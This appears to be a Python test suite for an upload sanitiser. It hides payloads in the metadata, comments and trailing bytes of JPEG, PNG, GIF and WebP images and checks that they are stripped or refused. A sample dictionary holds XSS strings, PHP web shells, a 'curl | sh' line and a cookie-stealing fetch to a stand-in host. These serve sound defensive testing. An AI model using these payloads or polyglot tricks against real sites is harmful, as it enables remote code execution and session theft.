"""Programs and pages behind the head of a picture: nothing of them is stored."""

from io import BytesIO
from PIL import Image
from tests.uploads import files
from tests.uploads.test_inspection import Inspecting
from thads.pictures import metadata
from thads.uploads import disguise
from thads.uploads import verdict
import os
import random
import struct
import zlib


WINDOWS = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + b"\x64\x86" * 20
#: What somebody would run or open -> a sign of it that must not be stored.
PROGRAMS = {
    "page": b"<html><body onload=alert(1)>a</body></html>",
    "script": b"<ScRiPt src=//x.example></script>",
    "picture that fails": b"<img src=x onerror=alert(1)>",
    "drawing": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "frame": b"<iframe src=javascript:alert(1)></iframe>",
    "PHP": b"<?php system($_GET['c']); ?>",
    "short PHP": b"<?=`$_GET[0]`?>",
    "archive of PHP": b"<?php __HALT_COMPILER(); ?>\r\n" + b"\x01" * 40,
    "ASP": b'<%@ Page Language="C#" %>',
    "program of Linux": b"\x7fELF\x02\x01\x01" + b"\0" * 9 + b"\x02\0\x3e\0" * 9,
    "program of Windows": WINDOWS,
    "program of macOS": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 30,
    "program of Java": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\0" * 30,
    "shell": b"#!/bin/sh\ncurl x.example|sh\n",
    "archive": files.package(("a.js", "alert(1)")),
    "archive RAR": b"Rar!\x1a\x07\x01\x00" + b"\x02" * 30,
    "PDF": b"%PDF-1.7\n1 0 obj<</S/JavaScript>>endobj",
    "compound file": files.OLE + b"\0" * 40,
    "long line": b"var a=document.cookie;fetch('//x.example/'+a);void(0)//",
}
KINDS = ("jpeg", "png", "gif", "webp")


def segment(marker, body):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


def chunk(name, body):
    crc = zlib.crc32(name + body)
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", crc)


def riff(body):
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def webp_chunk(name, body):
    return name + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)


def extended(data, *chunks):
    """A WebP with more chunks: VP8X first."""
    head = struct.pack("<I", 0x20)[:4] + b"\x3b\0\0\x27\0\0"
    return riff(
        webp_chunk(b"VP8X", head) + chunks[0] + data[12:] + b"".join(chunks[1:])
    )


def places(kind, payload):
    """Yield (place, picture) with a payload in each place of a picture of a kind."""
    data = files.picture(kind.upper())
    yield "behind the end", data + payload
    if kind == "jpeg":
        yield "remark", data[:2] + segment(0xFE, payload) + data[2:]
        yield "metadata", data[:2] + segment(0xE1, payload) + data[2:]
        yield "part without a name", data[:2] + segment(0xF0, payload) + data[2:]
        yield (
            "colours",
            data[:2] + segment(0xE2, b"ICC_PROFILE\0\x01\x01" + payload) + data[2:],
        )
        jfif = b"JFIF\0\x01\x01\0\0\x01\0\x01\x10\x10" + payload
        yield "preview", data[:2] + segment(0xE0, jfif) + data[2:]
        if b"\xff" not in payload:
            yield "before the end", data[:-2] + payload + b"\xff\xd9"
            yield "no end", data[:-2] + payload
    elif kind == "png":
        yield "remark", data[:33] + chunk(b"tEXt", b"a\0" + payload) + data[33:]
        yield "part without a name", data[:33] + chunk(b"prVt", payload) + data[33:]
        yield (
            "colours",
            data[:33]
            + chunk(b"iCCP", b"a\0\0" + zlib.compress(payload, 0))
            + data[33:],
        )
        at = data.index(b"IDAT") - 4
        (size,) = struct.unpack_from(">I", data, at)
        packed = data[at + 8 : at + 8 + size]
        yield (
            "before the end",
            data[:at] + chunk(b"IDAT", packed + payload) + data[at + 12 + size :],
        )
        out = BytesIO()
        pixels = (payload * 9)[: 3 * 40]
        Image.frombytes("RGB", (40, 1), pixels.ljust(120)).save(
            out, "PNG", compress_level=0
        )
        yield "pixels", out.getvalue()
    elif kind == "gif":
        blocks = b"".join(
            bytes([len(payload[n : n + 250])]) + payload[n : n + 250]
            for n in range(0, len(payload), 250)
        )
        at = 13 + 3 * 2 ** ((data[10] & 7) + 1)
        yield "remark", data[:at] + b"\x21\xfe" + blocks + b"\0" + data[at:]
        yield "before the end", data[:-2] + blocks + b"\0;"
        if len(payload) < 3 * 2 ** ((data[10] & 7) + 1):
            yield "colours", data[:13] + payload + data[13 + len(payload) :]
    else:
        yield "part without a name", extended(data, b"", webp_chunk(b"JUNK", payload))
        yield "colours", extended(data, webp_chunk(b"ICCP", payload))
        yield "metadata", extended(data, b"", webp_chunk(b"EXIF", payload))
        name, body = data[12:16], data[20:]
        yield "before the end", riff(webp_chunk(name, body + payload))


class TestDisguise(Inspecting):
    def test_nothing_of_it_is_stored(self):
        for kind in KINDS:
            for program, payload in PROGRAMS.items():
                for place, data in places(kind, payload):
                    for for_pages in (False, True):
                        with self.subTest(
                            program, kind=kind, place=place, for_pages=for_pages
                        ):
                            self.stored_without(data, kind, payload, for_pages)

    def stored_without(self, data, kind, payload, for_pages):
        try:
            found = self.inspect(data, kind, for_pages)
        except verdict.NotTaken as refused:
            self.assertIn(refused.code, (verdict.ACTIVE, verdict.DAMAGED))
            return
        self.assertNotIn(payload[:12], found.data)
        self.assertNotIn(payload[:12].lower(), found.data.lower())
        self.assertEqual(disguise.found(found.data), "")
        files.opened(found.data)

    def test_a_picture_that_is_a_script_by_its_size(self):
        for size in ((0x2F3D, 0x002A), (0x2A2F, 0x0001)):
            data = files.picture("GIF", size)
            with self.subTest(size):
                try:
                    found = self.inspect(data, "gif")
                except verdict.NotTaken as refused:
                    self.assertEqual(refused.code, verdict.ACTIVE)
                else:
                    self.assertNotIn(b"/*", found.data[:24])

    def test_in_an_archive_and_in_a_document(self):
        for program, payload in PROGRAMS.items():
            if program == "long line":
                continue
            for kind in KINDS:
                hidden = files.picture(kind.upper()) + payload
                name = f"a.{kind}"
                with self.subTest(program, kind=kind):
                    self.refused(files.package((name, hidden)), "zip", verdict.ACTIVE)
                    media = (f"word/media/{name}", hidden)
                    self.refused(files.office("docx", media), "docx", verdict.ACTIVE)
                    drawn = (f"Pictures/{name}", hidden)
                    self.refused(files.odt("<x/>", drawn), "odt", verdict.ACTIVE)

    def test_true_pictures_stay_as_they_are(self):
        for number in range(8):
            image = noise(number)
            for kind in KINDS:
                for options in ({}, {"optimize": True}, {"progressive": True}):
                    with self.subTest(kind, number=number, **options):
                        out = BytesIO()
                        image.save(out, kind.upper(), **options)
                        self.same(out.getvalue(), kind)
                        packed = files.package((f"a.{kind}", out.getvalue()))
                        self.same(packed, "zip")

    def test_what_cameras_and_programs_write_beside_is_none(self):
        text = (
            b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta '
            b'xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description tiff:ResolutionUnit='
            b'"2" exif:CompressionRatio="5" xmp:CreatorTool="Adobe Photoshop 25.0 '
            b'(Windows)"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Trang</rdf:li>'
            b"</rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        )
        jpeg = files.photograph()
        name = b"http://ns.adobe.com/xap/1.0/\0"
        jpeg = jpeg[:2] + segment(0xE1, name + text) + jpeg[2:]
        png = files.picture("PNG")
        note = b"XML:com.adobe.xmp\0\0\0\0\0" + text
        png = png[:33] + chunk(b"iTXt", note) + png[33:]
        for kind, data in (("jpeg", jpeg), ("png", png)):
            with self.subTest(kind):
                self.assertEqual(self.inspect(data, kind).change, verdict.STRIPPED)
                self.same(files.package((f"a.{kind}", data)), "zip")
                self.same(files.office("docx", (f"word/media/a.{kind}", data)), "docx")

    def test_markup_in_metadata_is_as_harmless_in_a_document_as_alone(self):
        """Programs for pictures write such titles; scripts are refused in both."""
        title = b"<title>Trang bia</title><div class=a>Anh</div>"
        for kind in KINDS:
            for place, data in places(kind, title):
                if place not in ("remark", "metadata", "part without a name"):
                    continue
                if (kind, place) == ("jpeg", "part without a name"):
                    continue  # it is damaged for who draws it
                with self.subTest(kind, place=place):
                    self.assertEqual(self.inspect(data, kind).change, verdict.STRIPPED)
                    self.same(files.package((f"a.{kind}", data)), "zip")
                    media = (f"word/media/a.{kind}", data)
                    self.same(files.office("docx", media), "docx")
                    self.same(files.odt("<x/>", (f"Pictures/a.{kind}", data)), "odt")
            for program in ("script", "PHP", "frame", "program of Linux", "archive"):
                for place, data in places(kind, PROGRAMS[program]):
                    if place in ("pixels", "colours", "preview"):
                        continue
                    with self.subTest(program, kind=kind, place=place):
                        media = (f"word/media/a.{kind}", data)
                        self.refused(
                            files.office("docx", media), "docx", verdict.ACTIVE
                        )
            for place, data in places(kind, title):
                if place in ("behind the end", "before the end"):
                    with self.subTest(kind, place=place):
                        media = (f"word/media/a.{kind}", data)
                        self.refused(
                            files.office("docx", media), "docx", verdict.ACTIVE
                        )

    def test_planes_and_scales_stay_as_they_are(self):
        for colour in range(0, 256, 15):
            for mode in ("L", "RGB"):
                image = Image.new(mode, (90, 90), colour)
                for kind in KINDS:
                    with self.subTest(kind, colour=colour, mode=mode):
                        out = BytesIO()
                        image.save(out, kind.upper())
                        self.same(out.getvalue(), kind)
        scale = Image.frombytes("L", (256, 1), bytes(range(256))).resize((256, 90))
        for kind in KINDS:
            with self.subTest(kind):
                out = BytesIO()
                scale.save(out, kind.upper())
                self.same(out.getvalue(), kind)

    def test_moving_ones(self):
        frames = [noise(n, (40, 30)).convert("P") for n in range(4)]
        out = BytesIO()
        frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
        data = out.getvalue()
        self.assertEqual(files.opened(self.inspect(data, "gif").data).n_frames, 4)
        blocks = bytes([40]) + PROGRAMS["page"][:40] + b"\0;"
        self.refused(data[:-2] + blocks, "gif", verdict.ACTIVE)

    def test_colours_of_a_profile_stay(self):
        from PIL import ImageCms

        profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
        text = b"Copyright " + b"of a company with a very long name " * 3
        size = len(profile) + len(text)
        profile = struct.pack(">I", size) + profile[4:] + text
        for kind in ("jpeg", "png", "webp"):
            with self.subTest(kind):
                data = files.picture(kind.upper(), icc_profile=profile)
                self.same(data, kind)
        data = files.picture("JPEG", icc_profile=profile)
        hidden = data[:-2] + PROGRAMS["long line"] + data[-2:]
        found = self.inspect(hidden, "jpeg")
        self.assertEqual(found.change, verdict.CONVERTED)
        self.assertEqual(files.opened(found.data).info["icc_profile"], profile)

    def test_noise_is_none(self):
        for _n in range(4):
            data = os.urandom(2_000_000)
            self.assertEqual(disguise.found(data), "")
            self.assertFalse(disguise.has_text(data))

    def test_what_ends_late_is_known(self):
        data = files.picture("PNG")
        self.assertTrue(metadata.has_end(data, "png"))


def noise(seed, size=(160, 120)):
    """A picture like a photograph: smooth, with noise, always the same."""
    random.seed(seed)
    small = Image.frombytes("RGB", (16, 12), random.randbytes(16 * 12 * 3))
    smooth = small.resize(size, Image.Resampling.BICUBIC)
    grain = Image.frombytes("RGB", size, random.randbytes(size[0] * size[1] * 3))
    return Image.blend(smooth, grain, 0.08 * (seed % 4))
